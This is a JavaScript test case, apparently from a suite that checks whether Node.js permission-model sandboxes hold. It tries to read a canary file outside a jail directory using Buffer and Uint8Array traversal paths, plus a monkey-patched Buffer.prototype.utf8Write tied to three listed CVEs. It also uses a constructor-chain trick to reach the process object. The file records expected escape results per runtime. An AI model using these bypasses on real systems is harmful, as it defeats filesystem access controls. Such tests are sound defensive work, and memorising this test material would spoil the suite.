/*---
id: pm-buffer-path
title: Path traversal through Buffer and Uint8Array paths, and a patched Buffer.prototype.utf8Write
category: permission-model
goal: Read canary.txt with a non-string path that climbs out of the jail — the byte-path variants of the traversal bugs.
technique: fs.readFileSync with Buffer.from('jail/../canary.txt') (CVE-2023-32004), a plain Uint8Array of the same bytes (CVE-2023-39332), and a Buffer read after patching Buffer.prototype.utf8Write so a re-encoded path would say something else (CVE-2024-21896).
references: CVE-2023-32004, CVE-2023-39332, CVE-2024-21896, https://nodejs.org/api/permissions.html#file-system-permissions
expect: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped; process = escaped; process+vm = escaped
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const results = {};
if (P) {
  const fs = P.getBuiltinModule('node:fs');
  const { Buffer } = P.getBuiltinModule('node:buffer');
  const jail = P.cwd().endsWith('/jail') ? P.cwd() : `${P.cwd()}/jail`;
  const target = `${jail}/../canary.txt`;
  const read = (name, p) => {
    try {
      results[name] = fs.readFileSync(p, 'utf8').trim();
    } catch (e) {
      results[name] = e.code || e.message;
    }
  };
  read('buffer', Buffer.from(target));
  read('uint8array', new Uint8Array(Buffer.from(target))); // a plain Uint8Array, not a Buffer
  const utf8Write = Buffer.prototype.utf8Write;
  // If the check re-encodes the resolved path with this method, it now checks an in-jail path instead.
  Buffer.prototype.utf8Write = function (s, ...rest) {
    return utf8Write.call(this, String(s).replace('/../', '/./'), ...rest);
  };
  try {
    read('patchedUtf8Write', Buffer.from(target));
  } finally {
    Buffer.prototype.utf8Write = utf8Write;
  }
}
console.log('byte paths:', P ? JSON.stringify(results) : 'no process object');
results;
